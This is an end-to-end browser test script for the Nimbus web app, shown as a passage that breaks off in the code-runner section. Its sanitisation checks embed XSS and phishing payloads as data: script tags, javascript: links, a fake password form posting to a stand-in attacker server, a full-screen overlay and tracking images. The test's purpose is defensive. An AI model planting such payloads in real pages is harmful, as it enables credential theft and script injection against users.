#!/usr/bin/env node
/**
 * End-to-end check of the built SPA against a real Nimbus server in real Chromium.
 *
 * Expects `frontend/dist` (run `npm run build` first). Starts `uv run nimbus serve` on a free
 * 127.0.0.1 port with a fresh data directory, seeds an admin, a tester and a project over the
 * API, then drives the UI: sign in, dashboard, project page (deep link, add a member), profile
 * (create a personal access token and use it), admin users, bugs (workflow, attachments dropped
 * and picked, a reproduction run), expenses (form errors, totals and charts that follow new
 * expenses, CSV export, import with a dry run, budgets), the code runner (output streamed line by
 * line, output files), registration errors, phone width. Jobs run in the server's own sandbox
 * (Docker when a socket answers, else bubblewrap; the run fails if neither is there).
 * Screenshots of each screen go to e2e/screenshots/. Exits non-zero on the first failure and
 * always stops the server it started.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";

import { chromium } from "playwright-core";

const here = dirname(fileURLToPath(import.meta.url));
const frontendDir = resolve(here, "..");
const repoRoot = resolve(frontendDir, "..");
const shotsDir = join(here, "screenshots");
const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const headed = process.env.E2E_HEADED === "1";

const ADMIN = { email: "ada@example.com", password: "correct-horse-1", full_name: "Ada Lovelace" };
const TESTER = { email: "grace@example.com", password: "battery-staple-2", full_name: "Grace Hopper" };
const ACCESS_TTL_S = 4;
const PROJECT = {
  key: "WEB",
  name: "Web storefront",
  description:
    "The customer-facing **storefront**.\n\n- Checkout and payments\n- Product pages\n\n" +
    'Runbook: [deploys](https://example.com/deploys) <a href="javascript:alert(1)">not a link</a><script>alert(2)</script>',
};

async function readDownload(download) {
  const stream = await download.createReadStream();
  const parts = [];
  for await (const part of stream) parts.push(part);
  return Buffer.concat(parts).toString("utf8");
}

const started = Date.now();

function log(message) {
  console.log(`[e2e +${((Date.now() - started) / 1000).toFixed(1)}s] ${message}`);
}

function fail(message) {
  throw new Error(message);
}

async function freePort() {
  return new Promise((resolvePort, reject) => {
    const server = createServer();
    server.unref();
    server.on("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address();
      server.close(() => resolvePort(port));
    });
  });
}

function startServer(port, dataDir) {
  const child = spawn("uv", ["run", "nimbus", "serve", "--host", "127.0.0.1", "--port", String(port)], {
    cwd: repoRoot,
    env: {
      ...process.env,
      UV_PYTHON_DOWNLOADS: "never",
      NIMBUS_DATA_DIR: dataDir,
      // Short-lived access tokens, so the run also exercises the transparent refresh.
      NIMBUS_ACCESS_TOKEN_TTL_S: String(ACCESS_TTL_S),
    },
    // Own process group: `uv run` starts Python as a child, and both must go at the end.
    detached: true,
    stdio: ["ignore", "pipe", "pipe"],
  });
  const output = [];
  const keep = (chunk) => {
    output.push(chunk.toString());
    if (output.length > 200) output.shift();
  };
  child.stdout.on("data", keep);
  child.stderr.on("data", keep);
  return { child, output };
}

function stopServer(child) {
  if (child.exitCode !== null || child.pid === undefined) return Promise.resolve();
  return new Promise((done) => {
    const timer = setTimeout(() => {
      try {
        process.kill(-child.pid, "SIGKILL");
      } catch {
        /* already gone */
      }
      done();
    }, 5000);
    child.once("exit", () => {
      clearTimeout(timer);
      done();
    });
    try {
      process.kill(-child.pid, "SIGTERM");
    } catch {
      clearTimeout(timer);
      done();
    }
  });
}

async function waitForHealth(base, server) {
  const deadline = Date.now() + 90_000;
  while (Date.now() < deadline) {
    if (server.child.exitCode !== null) {
      fail(`server exited with ${server.child.exitCode}:\n${server.output.join("")}`);
    }
    try {
      const response = await fetch(`${base}/healthz`);
      if (response.ok) return;
    } catch {
      /* not listening yet */
    }
    await new Promise((r) => setTimeout(r, 250));
  }
  fail(`server did not become healthy in 90 s:\n${server.output.join("")}`);
}

async function api(base, method, path, { token, json, form } = {}) {
  const headers = {};
  let body;
  if (token) headers.Authorization = `Bearer ${token}`;
  if (json !== undefined) {
    headers["Content-Type"] = "application/json";
    body = JSON.stringify(json);
  }
  if (form !== undefined) {
    headers["Content-Type"] = "application/x-www-form-urlencoded";
    body = new URLSearchParams(form).toString();
  }
  const response = await fetch(`${base}/api/v1${path}`, { method, headers, body });
  const text = await response.text();
  const data = text ? JSON.parse(text) : null;
  if (!response.ok) fail(`${method} ${path} → ${response.status}: ${text}`);
  return data;
}

async function seed(base) {
  const admin = await api(base, "POST", "/auth/register", { json: ADMIN });
  if (admin.role !== "admin") fail(`first user should be admin, got ${admin.role}`);
  const tester = await api(base, "POST", "/auth/register", { json: TESTER });
  const { access_token } = await api(base, "POST", "/auth/token", {
    form: { username: ADMIN.email, password: ADMIN.password },
  });
  await api(base, "POST", "/projects", { token: access_token, json: PROJECT });
  await api(base, "PUT", `/projects/${PROJECT.key}/members/${admin.id}`, { token: access_token });
  await api(base, "POST", "/projects", {
    token: access_token,
    json: { key: "OPS", name: "Operations", description: "Runbooks, on-call and infrastructure." },
  });
  return { admin, tester };
}

async function run() {
  if (!existsSync(join(frontendDir, "dist", "index.html"))) {
    fail("frontend/dist is missing: run `npm run build` before `npm run e2e`");
  }
  if (!existsSync(chromiumPath)) {
    fail(`no Chromium at ${chromiumPath}: apt-get install -y chromium (or set CHROMIUM_PATH)`);
  }
  mkdirSync(shotsDir, { recursive: true });
  rmSync(join(shotsDir, "FAILURE.png"), { force: true });

  const port = await freePort();
  const base = `http://127.0.0.1:${port}`;
  const dataDir = mkdtempSync(join(tmpdir(), "nimbus-e2e-"));
  log(`starting nimbus on ${base} (data in ${dataDir})`);
  const server = startServer(port, dataDir);
  let browser;
  const problems = [];
  try {
    await waitForHealth(base, server);
    const { tester } = await seed(base);
    log("seeded an admin, a tester and two projects");
    const { access_token: seedToken } = await api(base, "POST", "/auth/token", {
      form: { username: ADMIN.email, password: ADMIN.password },
    });
    const {
      items: [python],
    } = await api(base, "GET", "/runtimes", { token: seedToken });
    if (!python?.available) {
      fail(
        `the server has no sandbox to run jobs (${python?.detail ?? "no runtime"}): ` +
          "install bubblewrap (apt-get install -y bubblewrap) or start a Docker engine",
      );
    }
    log(`jobs run on ${python.backend}`);

    browser = await chromium.launch({
      executablePath: chromiumPath,
      headless: !headed,
      args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
      ],
    });
    const context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: base });
    // Every page runs under the server's Content-Security-Policy: anything it blocks is a defect
    // (an inline script, a style, a request elsewhere), whether or not the console says so.
    await context.exposeBinding("__nimbusCspViolation", (_source, report) =>
      problems.push(`Content-Security-Policy violation: ${report}`),
    );
    await context.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (event) =>
        window.__nimbusCspViolation(
          `${event.violatedDirective} blocked ${event.blockedURI || "inline"} on ${location.pathname}`,
        ),
      );
    });
    const page = await context.newPage();
    page.setDefaultTimeout(10_000);
    if (process.env.E2E_DEBUG)
      page.on("response", (r) => log(`${r.request().method()} ${r.url()} ${r.status()}`));
    page.on("pageerror", (error) => problems.push(`page error: ${error.message}`));
    page.on("console", (message) => {
      // 4xx responses the UI handles on purpose (a 422 on the register form) are logged by
      // Chromium as failed resources; anything else on the console is a defect.
      if (message.type() === "error" && !/status of (401|404|409|412|422)/.test(message.text())) {
        problems.push(`console error: ${message.text()}`);
      }
    });
    page.on("dialog", (dialog) => {
      problems.push(`unexpected dialog (script injection?): ${dialog.message()}`);
      void dialog.dismiss();
    });
    const shot = async (name, target = page) => {
      await target.screenshot({
        path: join(shotsDir, `${name}.png`),
        fullPage: true,
        animations: "disabled",
      });
      log(`screenshot ${name}.png`);
    };

    // --- deep link while signed out → sign-in page that returns there --------------------------
    await page.goto(`${base}/projects/${PROJECT.key}`);
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    if (!page.url().includes("next=%2Fprojects%2FWEB")) fail(`expected ?next= in ${page.url()}`);
    await shot("01-sign-in");

    await page.getByLabel("Email").fill(ADMIN.email);
    await page.getByLabel("Password").fill("wrong password");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("alert").filter({ hasText: "don't match" }).waitFor();
    await shot("02-sign-in-error");

    await page.getByLabel("Password").fill(ADMIN.password);
    await page.getByRole("button", { name: "Sign in" }).click();

    // --- project page, reached through the deep link --------------------------------------------
    await page.getByRole("heading", { level: 1, name: /Web storefront/ }).waitFor();
    if (new URL(page.url()).pathname !== "/projects/WEB") fail(`landed on ${page.url()}`);
    const about = page.locator(".markdown");
    await about.locator("strong", { hasText: "storefront" }).waitFor();
    if ((await about.locator("script, a[href^='javascript']").count()) > 0)
      fail("Markdown was not sanitised");
    await about.locator("a[href='https://example.com/deploys'][rel~='noopener']").waitFor();
    await page.locator(".member-list").getByText(ADMIN.full_name).waitFor();

    // Add the tester through the member picker.
    await page
      .getByLabel("Add a member")
      .selectOption({ label: `${TESTER.full_name} — ${TESTER.email} (tester)` });
    await page.getByRole("button", { name: "Add", exact: true }).click();
    await page.locator(".member-list").getByText(TESTER.full_name).waitFor();
    await shot("03-project");

    // A reload keeps the session (refresh token in sessionStorage, access token in memory).
    await page.reload();
    await page.getByRole("heading", { level: 1, name: /Web storefront/ }).waitFor();

    // "Duplicate tab" copies sessionStorage, refresh token included. The copy must leave that
    // token to this tab (asked over BroadcastChannel) instead of spending it, which made the
    // API see it reused here and revoke the session of both tabs.
    const storage = await page.evaluate(() => ({ ...sessionStorage }));
    const copy = await context.newPage();
    await copy.addInitScript((entries) => {
      for (const [key, value] of Object.entries(entries)) sessionStorage.setItem(key, value);
    }, storage);
    await copy.goto(`${base}/projects/${PROJECT.key}`);
    await copy.getByRole("heading", { name: "Sign in" }).waitFor();
    await copy.close();
    await page.reload(); // presents its refresh token again: still valid
    await page.getByRole("heading", { level: 1, name: /Web storefront/ }).waitFor();

    // --- dashboard and projects list -------------------------------------------------------------
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Dashboard" }).click();
    await page.getByRole("heading", { level: 1, name: /Ada/ }).waitFor();
    await page.getByRole("link", { name: "Web storefront" }).waitFor();
    await shot("04-dashboard");

    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Projects" }).click();
    await page.getByRole("heading", { level: 1, name: "Projects" }).waitFor();
    await page.getByRole("link", { name: "Operations" }).waitFor();
    await page.getByRole("button", { name: "New project" }).click();
    await page.getByLabel("Key").fill("WEB");
    await page.getByLabel("Name", { exact: true }).fill("Duplicate");
    await page.getByRole("button", { name: "Create project" }).click();
    await page.getByText("Another project already uses this key.").waitFor();
    await shot("05-projects-new-error");
    await page.getByLabel("Key").fill("API");
    await page.getByLabel("Name", { exact: true }).fill("Public API");
    await page.getByRole("button", { name: "Create project" }).click();
    await page.getByRole("heading", { level: 1, name: /Public API/ }).waitFor();
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Projects" }).click();
    await page.getByRole("link", { name: "Public API" }).waitFor();
    await shot("05-projects");

    // --- profile: personal access token --------------------------------------------------------
    await page.getByRole("link", { name: /your profile/ }).click();
    await page.getByRole("heading", { level: 1, name: "Your profile" }).waitFor();
    await page.getByText("No tokens yet").waitFor();
    await page.getByLabel("Token name").fill("CI pipeline");
    await page.getByRole("button", { name: "Create token" }).click();
    const tokenField = page.getByLabel("New token");
    await tokenField.waitFor();
    const pat = await tokenField.inputValue();
    if (!pat.startsWith("nmb_")) fail(`token should start with nmb_, got ${pat.slice(0, 8)}`);
    await page.getByRole("button", { name: "Copy" }).click();
    await page.getByRole("button", { name: "Copied", exact: true }).waitFor();
    await shot("06-profile-new-token");
    const me = await api(base, "GET", "/users/me", { token: pat });
    if (me.email !== ADMIN.email) fail("the new PAT does not authenticate as its owner");
    await page.reload();
    await page.getByRole("cell", { name: "CI pipeline", exact: true }).waitFor();
    await shot("06-profile");
    await page.getByLabel("Full name").fill("Ada King Lovelace");
    await page.getByRole("button", { name: "Save changes" }).click();
    await page.getByText("Saved.").waitFor();
    await page.getByRole("link", { name: /Ada King Lovelace/ }).waitFor();

    // --- an expired access token is renewed without the user noticing --------------------------
    await page.waitForTimeout((ACCESS_TTL_S + 1) * 1000);
    const refreshed = page.waitForResponse((r) => r.url().endsWith("/api/v1/auth/refresh") && r.ok());
    const usersLoaded = page.waitForResponse((r) => r.url().includes("/api/v1/users?") && r.ok());
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Users" }).click();
    await refreshed;
    await usersLoaded;

    // --- admin users: role change, deactivation, stale-version conflict ------------------------
    await page.getByRole("heading", { level: 1, name: "Users" }).waitFor();
    await page.getByRole("button", { name: "New user" }).click();
    const newUser = page.getByRole("form", { name: "New user" });
    await newUser.getByLabel("Full name").fill("Linus Developer");
    await newUser.getByLabel("Email").fill("linus@example.com");
    await newUser.getByLabel("Initial password").fill("short");
    await newUser.getByRole("button", { name: "Create user" }).click();
    await newUser.locator(".invalid-feedback", { hasText: /at least 8/i }).waitFor();
    await shot("07-admin-new-user-error");
    await newUser.getByLabel("Initial password").fill("long-enough-pw");
    await newUser.getByLabel("Role").selectOption("developer");
    await newUser.getByRole("button", { name: "Create user" }).click();
    await page.getByText("linus@example.com").waitFor();

    const graceRole = page.getByLabel(`Role of ${TESTER.full_name}`);
    const roleSaved = page.waitForResponse(
      (r) => r.url().includes(`/users/${tester.id}`) && r.request().method() === "PATCH",
    );
    await graceRole.selectOption("developer");
    if (!(await roleSaved).ok()) fail("changing Grace's role failed");
    // Someone else edits Grace behind this page's back, so its copy is now stale.
    const { access_token } = await api(base, "POST", "/auth/token", {
      form: { username: ADMIN.email, password: ADMIN.password },
    });
    await api(base, "PATCH", `/users/${tester.id}`, {
      token: access_token,
      json: { full_name: "Grace B. Hopper" },
    });
    await page.getByRole("button", { name: `Deactivate ${TESTER.full_name}` }).click();
    await page.getByText(/Someone changed Grace Hopper/).waitFor();
    await shot("07-admin-users-conflict");
    await page.getByRole("button", { name: "Reload" }).click();
    await page.getByRole("button", { name: "Deactivate Grace B. Hopper" }).click();
    await page.getByRole("button", { name: "Reactivate Grace B. Hopper" }).waitFor();
    await shot("07-admin-users");
    await page.getByText("What can each role do?").click();
    await page
      .getByRole("table", { name: "Permissions by role" })
      .getByRole("columnheader", { name: "tester" })
      .waitFor();
    await shot("07-admin-roles");
    await page.getByRole("button", { name: "Reactivate Grace B. Hopper" }).click();
    await page.getByRole("button", { name: "Deactivate Grace B. Hopper" }).waitFor();

    // --- bugs: file one, assign it, move it through the workflow, comment, hit a conflict ------
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Projects" }).click();
    await page.getByRole("link", { name: "Web storefront" }).click();
    await page.getByText("No open bugs").waitFor();
    await page.getByRole("link", { name: "File a bug" }).click();
    await page.getByLabel("Title").fill("Checkout button does nothing on Safari");
    await page
      .getByLabel("Description")
      .fill("Steps:\n1. Add an item\n2. Press **Checkout**\n\nExpected: payment page. Actual: nothing.");
    await page.getByRole("button", { name: "Preview" }).click();
    await page.locator(".markdown strong", { hasText: "Checkout" }).waitFor();
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Priority").selectOption("high");
    await page.getByLabel("Labels").fill("checkout, safari");
    await shot("12-new-bug");
    await page.getByRole("button", { name: "File bug" }).click();
    await page.getByRole("heading", { level: 1, name: /Checkout button does nothing/ }).waitFor();
    const bugKey = new URL(page.url()).pathname.split("/").pop();
    if (bugKey !== "WEB-1") fail(`expected WEB-1, got ${bugKey}`);

    await page.getByLabel("Assignee").selectOption({ label: "Grace B. Hopper" });
    await page.locator(".timeline").getByText("assigned it to Grace B. Hopper").waitFor();
    await page.getByRole("button", { name: "Start progress" }).click();
    await page.locator(".page-header .status-badge", { hasText: "In progress" }).waitFor();
    await page.getByRole("button", { name: "Resolve" }).click();
    await page.getByLabel("Resolution").selectOption("fixed");
    await page.getByLabel("Comment (optional)").fill("Fixed in the click handler.");
    await page.getByRole("button", { name: "Confirm" }).click();
    await page.locator(".page-header .status-badge", { hasText: "Resolved" }).waitFor();
    await page.getByLabel("Add a comment").fill("Deployed to **staging**.");
    await page.getByRole("button", { name: "Comment", exact: true }).click();
    await page.locator(".comment strong", { hasText: "staging" }).waitFor();
    await shot("13-bug");

    // Someone else edits the bug; this page's copy is stale and the save must say so.
    const { access_token: otherToken } = await api(base, "POST", "/auth/token", {
      form: { username: ADMIN.email, password: ADMIN.password },
    });
    await api(base, "PATCH", `/bugs/${bugKey}`, { token: otherToken, json: { severity: "major" } });
    await page.getByRole("button", { name: "Edit", exact: true }).click();
    await page.getByLabel("Title").fill("Checkout button does nothing on Safari 17");
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("Someone changed this bug while you were editing.").waitFor();
    await shot("13-bug-conflict");
    await page.getByRole("button", { name: "Reload" }).click();
    await page
      .waitForFunction(
        () => [...document.querySelectorAll("select")].some((el) => el.value === "major"),
        null,
        {
          timeout: 5000,
        },
      )
      .catch(() => fail("reload did not fetch the new bug"));
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: /Safari 17/ }).waitFor();

    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Bugs" }).click();
    await page.getByRole("heading", { level: 1, name: "Bugs" }).waitFor();
    await page.getByLabel("Status", { exact: true }).selectOption("all");
    await page.getByRole("link", { name: /Checkout button does nothing/ }).waitFor();
    await shot("14-bugs");

    // --- hostile Markdown: no forms, overlays or requests elsewhere (issue 18, finding 6) -------
    // A loopback server stands in for the attacker's host and records whatever reaches it.
    const hits = [];
    const trap = createHttpServer((request, response) => {
      hits.push(`${request.method} ${request.url}`);
      response.writeHead(204).end();
    });
    await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
    try {
      const evil = `http://127.0.0.1:${trap.address().port}`;
      const hostile =
        "Please re-enter your password.\n\n" +
        `<form action="${evil}/steal"><input type="password" name="p"><button>Sign in</button></form>\n\n` +
        '<div style="position:fixed;inset:0;z-index:9999;background:white">Nimbus needs you to sign in again</div>\n\n' +
        `![x](${evil}/beacon.png)\n\n<img src="${evil}/img2.png">\n\n[click](javascript:alert(1))\n`;
      const hostileBug = await api(base, "POST", `/projects/${PROJECT.key}/bugs`, {
        token: otherToken,
        json: {
          title: "Hostile markdown",
          description: hostile,
          priority: "low",
          severity: "minor",
          labels: [],
        },
      });
      await api(base, "POST", `/bugs/${hostileBug.key}/comments`, {
        token: otherToken,
        json: { body: hostile },
      });
      const problemsBefore = problems.length;
      await page.goto(`${base}/bugs/${hostileBug.key}`);
      await page.getByRole("heading", { level: 1, name: /Hostile markdown/ }).waitFor();
      await page.locator(".comment .markdown", { hasText: "re-enter your password" }).waitFor();
      const rendered = page.locator(".markdown", { hasText: "re-enter your password" });
      if ((await rendered.count()) !== 2)
        fail(`expected description and comment, got ${await rendered.count()}`);
      await page.waitForTimeout(1000);
      const found = await page.evaluate(() => {
        const boxes = [...document.querySelectorAll(".markdown")];
        const inside = (selector) => boxes.reduce((n, box) => n + box.querySelectorAll(selector).length, 0);
        return {
          controls: inside("form, input, button, textarea, select"),
          styled: inside("[style]"),
          fixed: boxes
            .flatMap((box) => [...box.querySelectorAll("*")])
            .filter((el) => getComputedStyle(el).position === "fixed").length,
          scripted: [...document.querySelectorAll("a[href]")].filter((a) =>
            /^\s*javascript:/i.test(a.getAttribute("href")),
          ).length,
          images: inside("img"),
          placeholders: boxes.flatMap((box) =>
            [...box.querySelectorAll("a")]
              .map((a) => a.textContent)
              .filter((text) => /^Image from 127\.0\.0\.1:\d+.*not loaded/.test(text)),
          ).length,
        };
      });
      await shot("14-bug-hostile-markdown");
      if (found.controls) fail(`user Markdown added ${found.controls} form controls`);
      if (found.styled) fail(`user Markdown kept ${found.styled} style attributes`);
      if (found.fixed) fail(`user Markdown added ${found.fixed} position:fixed elements`);
      if (found.scripted) fail(`the page has ${found.scripted} javascript: links`);
      if (found.images) fail(`user Markdown kept ${found.images} remote <img> elements`);
      // Two images in each of the description and the comment.
      if (found.placeholders !== 4) fail(`expected 4 click-to-load image links, found ${found.placeholders}`);
      if (hits.length) fail(`opening the bug sent requests elsewhere: ${hits.join(", ")}`);
      // DOMPurify parses the user's HTML in an inert document that inherits this page's CSP, so
      // Chromium reports (and blocks) the hostile style attribute there before the allow-list drops
      // it; the checks above show none reached the page. Any other problem still counts.
      const raised = problems.splice(problemsBefore);
      problems.push(...raised.filter((p) => !/style-src-attr|'style-src-attr 'none''/.test(p)));
      await page
        .locator(".markdown a", { hasText: /^Image from 127\.0\.0\.1:\d+: x/ })
        .first()
        .waitFor();
    } finally {
      await new Promise((closed) => trap.close(closed));
    }
    await page.goBack();
    await page.getByRole("heading", { level: 1, name: "Bugs" }).waitFor();

    // --- bug attachments: one dropped, one picked; download one, delete one ---------------------
    await page.getByRole("link", { name: /Checkout button does nothing/ }).click();
    await page.getByRole("heading", { level: 1, name: /Safari 17/ }).waitFor();
    const attachments = page.getByRole("region", { name: /Attachments/ });
    await attachments.getByText("No files attached.").waitFor();
    const dropped = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(["dropped on the page\n"], "dropped.txt", { type: "text/plain" }));
      return transfer;
    });
    await attachments.getByTestId("file-drop").dispatchEvent("drop", { dataTransfer: dropped });
    await attachments.getByRole("button", { name: "Download dropped.txt" }).waitFor();
    const consoleLog = "TypeError: checkout is undefined\n    at pay (checkout.js:12)\n";
    await attachments
      .getByLabel("Attach files")
      .setInputFiles({ name: "console.log", mimeType: "text/plain", buffer: Buffer.from(consoleLog) });
    await attachments.getByRole("button", { name: "Download console.log" }).waitFor();
    const [attachmentDownload] = await Promise.all([
      page.waitForEvent("download"),
      attachments.getByRole("button", { name: "Download console.log" }).click(),
    ]);
    if (attachmentDownload.suggestedFilename() !== "console.log")
      fail(`downloaded ${attachmentDownload.suggestedFilename()}`);
    if ((await readDownload(attachmentDownload)) !== consoleLog) fail("the attachment came back changed");
    await attachments.getByRole("button", { name: "Delete dropped.txt" }).click();
    await attachments.getByRole("button", { name: "Download dropped.txt" }).waitFor({ state: "detached" });

    // --- reproduction: add a script, run it, watch its output and the verdict ------------------
    const repro = page.getByRole("region", { name: "Reproduction" });
    await repro.getByRole("button", { name: "Add a script" }).click();
    await repro
      .getByLabel(/Reproduction script/)
      .fill('import sys\nprint("total is", 1 + 1 + 1)\nsys.exit(1)\n');
    await repro.getByRole("button", { name: "Save script" }).click();
    await repro.getByRole("button", { name: "Run reproduction" }).click();
    await repro.getByRole("log", { name: "Reproduction output" }).getByText("total is 3").waitFor();
    await repro.getByText("Reproduces", { exact: true }).waitFor();
    await shot("16-bug-attachments-repro");

    // --- expenses: form errors, totals and charts that follow, export, import, budgets ---------
    const nav = page.getByRole("navigation", { name: "Main" });
    await nav.getByRole("link", { name: "Expenses" }).click();
    await page.getByRole("heading", { level: 1, name: "Expenses" }).waitFor();
    await page.getByText("No expenses yet").waitFor();
    await shot("17-expenses-empty");
    const today = await page.evaluate(() => {
      const d = new Date();
      return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, "0")}-${String(d.getDate()).padStart(2, "0")}`;
    });
    const recordExpense = async ({ amount, currency, category, description, project }) => {
      await page.getByRole("link", { name: "New expense" }).first().click();
      await page.getByRole("heading", { level: 1, name: "New expense" }).waitFor();
      await page.getByLabel("Amount").fill(amount);
      await page.getByLabel("Currency").fill(currency);
      await page.getByLabel("Category").selectOption({ label: category });
      if (project) await page.getByLabel("Project (optional)").selectOption({ label: project });
      await page.getByLabel("Date").fill(today);
      await page.getByLabel("Description").fill(description);
      await page.getByRole("button", { name: "Save expense" }).click();
    };
    await recordExpense({ amount: "12,50", currency: "XYZ", category: "Meals", description: "Team lunch" });
    await page.locator(".invalid-feedback", { hasText: "not an ISO 4217 currency" }).waitFor();
    await shot("18-expense-error");
    await page.getByLabel("Currency").fill("EUR");
    await page.getByLabel("Project (optional)").selectOption({ label: "WEB — Web storefront" });
    await page.getByRole("button", { name: "Save expense" }).click();
    await page.getByRole("heading", { level: 1, name: "Expenses" }).waitFor();
    const byCategory = page.getByRole("table", { name: "Spend by category (table)" });
    const categoryCell = (category) => byCategory.getByRole("row", { name: new RegExp(`^${category}`) });
    await categoryCell("Meals").getByText("€12.50").waitFor();

    await recordExpense({
      amount: "40",
      currency: "USD",
      category: "Travel",
      description: "Taxi to the client",
    });
    await page.getByRole("heading", { level: 1, name: "Expenses" }).waitFor();
    await categoryCell("Travel").getByText("$40.00").waitFor();
    // The new USD expense is its own series: the EUR total for Meals is unchanged, not added to.
    await categoryCell("Meals").getByText("€12.50").waitFor();
    await recordExpense({ amount: "7.5", currency: "EUR", category: "Meals", description: "Coffee" });
    await page.getByRole("heading", { level: 1, name: "Expenses" }).waitFor();
    await categoryCell("Meals").getByText("€20.00").waitFor();
    const totals = page.getByRole("list", { name: "Total per currency" });
    await totals.getByText("€20.00").waitFor();
    await totals.getByText("$40.00").waitFor();
    const byMonth = page.getByRole("table", { name: "Spend by month (table)" });
    await byMonth.getByText("€20.00").waitFor();
    const bars = await page.evaluate(() => document.querySelectorAll(".spend-chart canvas").length);
    if (bars !== 2) fail(`expected 2 charts, found ${bars}`);
    await shot("19-expenses");

    const [csvDownload] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export CSV" }).click(),
    ]);
    const csv = await readDownload(csvDownload);
    if (!csv.includes("Team lunch") || !csv.includes("12.50")) fail(`export lacks the expense:\n${csv}`);

    await page.getByRole("link", { name: "Team lunch" }).click();
    await page.getByRole("heading", { level: 1, name: "Team lunch" }).waitFor();
    await page.getByLabel("Amount").fill("13.50");
    await page.getByRole("button", { name: "Save changes" }).click();
    await page
      .locator(".timeline")
      .getByText(/changed amount from “12.50” to “13.50”/)
      .waitFor();
    const receipts = page.getByRole("region", { name: /Receipts/ });
    await receipts.getByText("No receipts yet.").waitFor();
    // A real PNG: the API checks that a file's bytes match its type.
    const png = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
      "base64",
    );
    await receipts
      .getByLabel("Add receipts")
      .setInputFiles({ name: "lunch.png", mimeType: "image/png", buffer: png });
    await receipts.getByRole("button", { name: "Download lunch.png" }).waitFor();
    await page
      .locator(".timeline")
      .getByText(/added the receipt “lunch.png”/)
      .waitFor();
    await shot("20-expense-edit");

    await nav.getByRole("link", { name: "Expenses" }).click();
    await page.getByRole("link", { name: "Import CSV" }).click();
    await page.getByRole("heading", { level: 1, name: "Import expenses" }).waitFor();
    const badCsv =
      "spent_on,amount,currency,category,description\n" +
      `${today},9.90,EUR,Meals,Sandwich\n` +
      `${today},abc,EUR,Meals,Mystery\n` +
      "2026-13-01,5.00,EUR,Nope,Nowhere\n";
    await page
      .getByLabel("CSV file")
      .setInputFiles({ name: "bad.csv", mimeType: "text/csv", buffer: Buffer.from(badCsv) });
    const problemsTable = page.getByRole("table", { name: "Rows with problems" });
    await problemsTable.getByRole("row", { name: /^3 amount/ }).waitFor();
    await problemsTable.getByRole("row", { name: /^4 spent_on/ }).waitFor();
    await problemsTable.getByRole("row", { name: /^4 category .*Nope/ }).waitFor();
    if ((await page.getByRole("button", { name: /^Import \d/ }).count()) > 0)
      fail("a file with bad rows can be imported");
    await shot("21-import-errors");
    const goodCsv =
      "spent_on,amount,currency,category,description,project\n" +
      `${today},9.90,EUR,Meals,Sandwich,WEB\n` +
      `${today},3.10,EUR,Office,Pens,\n`;
    await page
      .getByLabel("CSV file")
      .setInputFiles({ name: "good.csv", mimeType: "text/csv", buffer: Buffer.from(goodCsv) });
    await page.getByRole("heading", { name: "Ready to import" }).waitFor();
    await shot("21-import-preview");
    await page.getByRole("button", { name: "Import 2 expenses" }).click();
    await page.getByText("Imported 2 expenses.").waitFor();
    await page.getByRole("link", { name: "See your expenses" }).click();
    await page.getByRole("link", { name: "Pens", exact: true }).waitFor();
    // 13.50 + 7.50 (Meals by hand) + 9.90 (imported) = 30.90 EUR for Meals.
    await categoryCell("Meals").getByText("€30.90").waitFor();

    await page.getByRole("link", { name: "Budgets" }).click();
    await page.getByRole("heading", { level: 1, name: "Budgets" }).waitFor();
    await page.getByRole("button", { name: "Set a budget for Web storefront" }).click();
    const budgetForm = page.getByRole("form", { name: "Budget of Web storefront" });
    await budgetForm.getByLabel("Amount").fill("100");
    await budgetForm.getByRole("button", { name: "Save" }).click();
    // 13.50 (edited lunch) + 9.90 (imported sandwich) are linked to WEB.
    await page.getByText("€23.40").waitFor();
    await page.getByText("€76.60 left").waitFor();
    await shot("22-budgets");

    // --- code runner: output streams line by line, files come back ----------------------------
    await nav.getByRole("link", { name: "Code runner" }).click();
    await page.getByRole("heading", { level: 1, name: "Code runner" }).waitFor();
    const editor = page.locator(".cm-content");
    await editor.click();
    await page.keyboard.press("ControlOrMeta+A");
    await page.keyboard.press("Delete");
    await page.keyboard.insertText(
      'import time\nprint("first line", flush=True)\ntime.sleep(0.5)\nprint("second line")\n' +
        'open("result.txt", "w").write(input())\n',
    );
    await page.getByLabel("Standard input").fill("forty-two");
    await page.getByRole("button", { name: "Run", exact: true }).click();
    // The first line must be on screen while the job still runs: a stream buffered until the
    // end would show both lines at once and never satisfy this.
    const seenRunning = await page
      .waitForFunction(
        () => {
          const output = document.querySelector(".job-output");
          const text = output?.querySelector("[role=log]")?.textContent ?? "";
          if (!text.includes("first line") || text.includes("second line")) return null;
          return output?.getAttribute("data-status");
        },
        null,
        { polling: "raf", timeout: 20_000 },
      )
      .then((handle) => handle.jsonValue())
